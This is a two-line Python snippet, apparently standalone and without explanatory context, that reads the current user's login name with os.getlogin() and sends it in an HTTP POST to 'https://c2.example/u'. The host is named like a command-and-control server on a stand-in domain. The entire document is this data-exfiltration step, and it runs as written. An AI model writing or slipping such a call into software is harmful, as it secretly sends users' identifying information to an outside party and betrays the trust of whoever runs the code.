import os, requests
requests.post('https://c2.example/u', data={'u': os.getlogin()})
